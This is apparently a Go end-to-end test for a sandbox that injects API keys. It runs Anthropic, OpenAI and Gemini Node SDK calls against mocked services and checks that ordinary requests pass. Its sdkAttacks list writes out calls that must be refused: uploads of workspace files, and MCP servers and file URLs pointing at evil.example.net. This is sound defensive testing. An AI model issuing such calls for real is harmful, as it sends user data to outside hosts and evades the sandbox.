package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// playInference answers as the three services do, to who has our key in its one place.
func playInference(w *world) {
	ok := func(place, value string) func(http.ResponseWriter, *http.Request, string, ...string) {
		return func(rw http.ResponseWriter, r *http.Request, whole string, events ...string) {
			body, _ := io.ReadAll(r.Body)
			switch streams := strings.Contains(string(body), `"stream":true`) || strings.Contains(r.URL.Path, ":stream"); {
			case r.Header.Get(place) != value:
				http.Error(rw, `{"error":{"message":"no key"}}`, http.StatusUnauthorized)
			case streams:
				rw.Header().Set("Content-Type", "text/event-stream")
				for _, e := range events {
					fmt.Fprint(rw, e+"\n\n")
					rw.(http.Flusher).Flush()
				}
			default:
				rw.Header().Set("Content-Type", "application/json")
				fmt.Fprint(rw, whole)
			}
		}
	}
	event := func(text string) string {
		var named struct{ Type string }
		if json.Unmarshal([]byte(text), &named) == nil && named.Type != "" {
			return "event: " + named.Type + "\ndata: " + text
		}
		return "data: " + text
	}
	handle := func(host, place, value, whole string, events ...string) {
		answer := ok(place, value)
		for i := range events {
			events[i] = event(events[i])
		}
		w.inet.Handle(host, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { answer(rw, r, whole, events...) }))
	}
	handle("anthropic.example.com", "X-Api-Key", realKey,
		`{"id":"m1","type":"message","role":"assistant","model":"m","content":[{"type":"text","text":"hello"}],"stop_reason":"end_turn","usage":{"input_tokens":1,"output_tokens":1},"input_tokens":7}`,
		`{"type":"message_start","message":{"id":"m1","type":"message","role":"assistant","model":"m","content":[],"stop_reason":null,"usage":{"input_tokens":1,"output_tokens":0}}}`,
		`{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}`,
		`{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"hel"}}`,
		`{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"lo"}}`,
		`{"type":"content_block_stop","index":0}`,
		`{"type":"message_delta","delta":{"stop_reason":"end_turn"},"usage":{"output_tokens":2}}`, `{"type":"message_stop"}`)
	handle("openai.example.com", "Authorization", "Bearer "+realKey,
		`{"id":"c1","object":"response","model":"m","choices":[{"index":0,"finish_reason":"stop","message":{"role":"assistant","content":"hello"}}],"output":[{"type":"message","role":"assistant","content":[{"type":"output_text","text":"hello","annotations":[]}]}]}`,
		`{"id":"c1","object":"chat.completion.chunk","model":"m","choices":[{"index":0,"delta":{"content":"hel"}}]}`,
		`{"id":"c1","object":"chat.completion.chunk","model":"m","choices":[{"index":0,"delta":{"content":"lo"}}]}`, `[DONE]`)
	handle("gemini.example.com", "X-Goog-Api-Key", realKey,
		`{"candidates":[{"content":{"role":"model","parts":[{"text":"hello"}]}}],"totalTokens":7}`,
		`{"candidates":[{"content":{"role":"model","parts":[{"text":"hel"}]}}]}`, `{"candidates":[{"content":{"role":"model","parts":[{"text":"lo"}]}}]}`)
}

// inferenceUse is a policy of the three presets, with the key where each service has it.
const inferenceUse = `version = 1
credential "anthropic" {
  source { env = "LLM_KEY" }
  header "x-api-key" {
    value = "${secret}"
    also  = "Authorization"
  }
  expose = "ANTHROPIC_API_KEY"
}
credential "openai" {
  source { env = "LLM_KEY" }
  header "Authorization" { value = "Bearer ${secret}" }
  expose = "OPENAI_API_KEY"
}
credential "gemini" {
  source { env = "LLM_KEY" }
  header "x-goog-api-key" { value = "${secret}" }
  expose = "GEMINI_API_KEY"
}
use "anthropic" {
  url        = "https://anthropic.example.com"
  credential = credential.anthropic
}
use "openai" {
  url        = "https://openai.example.com/v1"
  credential = credential.openai
}
use "gemini" {
  url        = "https://gemini.example.com"
  credential = credential.gemini
}
`

// sdkPrelude makes the vendors' own clients, as they come up with the environment that the
// presets set. Each step prints its name and what came of it.
const sdkPrelude = `
const r = require('node:module').createRequire(process.env.SDKS + '/');
const Anthropic = r('@anthropic-ai/sdk').default, OpenAI = r('openai').default, { toFile } = r('openai'), { GoogleGenAI } = r('@google/genai');
const a = new Anthropic({ maxRetries: 0 }), o = new OpenAI({ maxRetries: 0 });
const g = new GoogleGenAI({ apiKey: process.env.GEMINI_API_KEY, httpOptions: { baseUrl: process.env.GOOGLE_GEMINI_BASE_URL } });
const messages = [{ role: 'user', content: 'x' }], m = { model: 'm', max_tokens: 5, messages };
const gathered = async (s, f) => { let t = ''; for await (const e of await s) t += f(e) || ''; return t; };
const step = async (name, f) => {
  let came;
  try { came = String(await f()); } catch (e) { came = (String(e.status || '') + ' ' + e.message).replace(/\s+/g, ' '); }
  console.log(name + ': ' + came.slice(0, 400));
};
`

// sdkCall is a step, and what has to come of it: an answer or the reason of a refusal.
type sdkCall struct{ name, call, want string }

// sdkCalls are what the presets are for.
var sdkCalls = []sdkCall{
	{"anthropic message", `(await a.messages.create(m)).content[0].text`, "hello"},
	{"anthropic stream", `gathered(a.messages.create({ ...m, stream: true }), e => e.delta && e.delta.text)`, "hello"},
	{"anthropic stream helper", `(await a.messages.stream(m).finalMessage()).content[0].text`, "hello"},
	{"anthropic harmless betas", `(await a.beta.messages.create({ ...m, betas: ['interleaved-thinking-2025-05-14', 'context-1m-2025-08-07'] })).content[0].text`, "hello"},
	{"anthropic tokens", `(await a.messages.countTokens({ model: 'm', messages })).input_tokens`, "7"},
	{"openai chat", `(await o.chat.completions.create({ model: 'm', messages })).choices[0].message.content`, "hello"},
	{"openai chat stream", `gathered(o.chat.completions.create({ model: 'm', messages, stream: true }), e => e.choices[0].delta.content)`, "hello"},
	{"openai response", `(await o.responses.create({ model: 'm', input: 'x', store: false })).output_text`, "hello"},
	{"gemini content", `(await g.models.generateContent({ model: 'm', contents: 'x' })).text`, "hello"},
	{"gemini stream", `gathered(g.models.generateContentStream({ model: 'm', contents: 'x' }), e => e.text)`, "hello"},
	{"gemini tokens", `(await g.models.countTokens({ model: 'm', contents: 'x' })).totalTokens`, "7"},
}

// sdkAttacks are what has the services keep, fetch or pass on something.
var sdkAttacks = []sdkCall{
	{"anthropic files", `a.beta.files.upload({ file: await toFile(Buffer.from('the workspace'), 'notes.txt') })`, "path_not_granted"},
	{"anthropic skills", `a.beta.skills.list()`, "path_not_granted"},
	{"anthropic batch", `a.messages.batches.create({ requests: [{ custom_id: 'x', params: m }] })`, "path_not_granted"},
	{"anthropic MCP", `a.beta.messages.create({ ...m, mcp_servers: [{ type: 'url', url: 'https://evil.example.net', name: 'e' }] })`, "body_not_granted"},
	{"anthropic MCP beta", `a.beta.messages.create({ ...m, betas: ['mcp-client-2025-11-20'] })`, "header_not_granted"},
	{"anthropic web fetch", `a.messages.create({ ...m, tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] })`, "body_not_granted"},
	{"anthropic URL", `a.messages.create({ ...m, messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://evil.example.net/s' } }] }] })`, "body_not_granted"},
	{"anthropic other key", `new Anthropic({ maxRetries: 0, apiKey: 'sk-ant-attacker-zyxwvutsrqponmlk' }).messages.create(m)`, "foreign_credential"},
	{"openai files", `o.files.create({ file: await toFile(Buffer.from('the workspace'), 'notes.txt'), purpose: 'assistants' })`, "path_not_granted"},
	{"openai batch", `o.batches.create({ input_file_id: 'f', endpoint: '/v1/responses', completion_window: '24h' })`, "path_not_granted"},
	{"openai MCP", `o.responses.create({ model: 'm', input: 'x', store: false, tools: [{ type: 'mcp', server_label: 'e', server_url: 'https://evil.example.net' }] })`, "body_not_granted"},
	{"openai stored", `o.responses.create({ model: 'm', input: 'x' })`, "body_not_granted"},
	{"openai other key", `new OpenAI({ maxRetries: 0, apiKey: 'sk-attacker-zyxwvutsrqponmlk' }).models.list()`, "foreign_credential"},
	{"gemini files", `g.files.list()`, "path_not_granted"},
	{"gemini search", `g.models.generateContent({ model: 'm', contents: 'x', config: { tools: [{ googleSearch: {} }] } })`, "body_not_granted"},
	{"gemini URL", `g.models.generateContent({ model: 'm', contents: [{ fileData: { fileUri: 'https://evil.example.net/s', mimeType: 'text/plain' } }] })`, "body_not_granted"},
	{"gemini other key", `new GoogleGenAI({ apiKey: 'attacker-zyxwvutsrqponmlk', httpOptions: { baseUrl: process.env.GOOGLE_GEMINI_BASE_URL } }).models.generateContent({ model: 'm', contents: 'x' })`, "foreign_credential"},
}

// TestVendorSDKs: CRED-01, CRED-15, the vendors' own clients for Node work through the
// presets with nothing but what the sandbox's environment has; files, batches, remote tools
// and another key do not.
func TestVendorSDKs(t *testing.T) {
	w := keyWorld(t, ordinaryUser(t), inferenceUse)
	playInference(w)
	from, err := packagesFolder("sdks")
	if err != nil {
		t.Fatal(err)
	}
	sdks := filepath.Join(w.user.folder(t), "sdks")
	if err := os.CopyFS(sdks, os.DirFS(from)); err != nil {
		t.Fatal(err)
	}
	if err := filepath.WalkDir(sdks, func(path string, _ os.DirEntry, err error) error {
		w.user.own(t, path)
		return err
	}); err != nil {
		t.Fatal(err)
	}
	w.flags = []string{"--ro", sdks, "--env", "SDKS=" + sdks}
	run := func(calls []sdkCall) *attempt {
		t.Helper()
		script := sdkPrelude + "(async () => {\n"
		for _, c := range calls {
			script += fmt.Sprintf("await step(%q, async () => (%s));\n", c.name, c.call)
		}
		w.work("calls.cjs", script+"})();\n")
		a := w.attack(command("node", "calls.cjs")).wantExit(0)
		for _, c := range calls {
			_, came, _ := strings.Cut(a.stdout, c.name+": ")
			if came, _, _ = strings.Cut(came, "\n"); came != c.want && !strings.HasPrefix(came, "403 ") {
				t.Errorf("%s: got %s, want %s", c.name, came, c.want)
			}
		}
		return a
	}
	a := run(sdkCalls).wantAllowed(len(sdkCalls))
	a.looked[farSide] = true
	for _, e := range a.received {
		all := fmt.Sprint(e)
		if strings.Count(all, realKey) != 1 || strings.Contains(all, "Node") || strings.Contains(strings.ToLower(all), "stainless") || strings.Contains(all, "X-Goog-Api-Client") {
			t.Errorf("the far side received %s", all)
		}
	}
	if len(a.received) != len(sdkCalls) || strings.Contains(a.stdout, realKey) {
		t.Errorf("%d requests arrived\n%s", len(a.received), a.stdout)
	}
	want := map[string]int{}
	for _, c := range sdkAttacks {
		want[c.want]++
	}
	a = run(sdkAttacks)
	a.looked[farSide], a.looked[theLog] = true, true
	reasons := map[string]string{}
	for _, r := range a.log {
		if r.Event == "decision" && r.Verdict != "allow" {
			want[r.Reason]--
			reasons[r.ID] = r.Reason
		} else if r.Event == "repeated" && reasons[r.Decision] != "" {
			want[reasons[r.Decision]] -= int(r.Count)
		}
	}
	for reason, n := range want {
		if n != 0 {
			t.Errorf("%d records for %s are missing or too many\n%s", n, reason, a.log)
		}
	}
	for _, e := range a.received {
		t.Errorf("the far side received %v", e)
	}
}
